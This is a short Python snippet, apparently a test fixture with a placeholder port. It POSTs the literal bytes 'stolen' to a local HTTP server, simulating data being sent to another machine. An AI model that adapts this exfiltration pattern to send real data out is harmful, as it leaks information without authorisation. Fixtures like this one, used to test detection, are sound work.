# Sends an answer to a machine elsewhere.
import http.client
http.client.HTTPConnection("127.0.0.1", @PORT@, timeout=1).request("POST", "/", b"stolen")
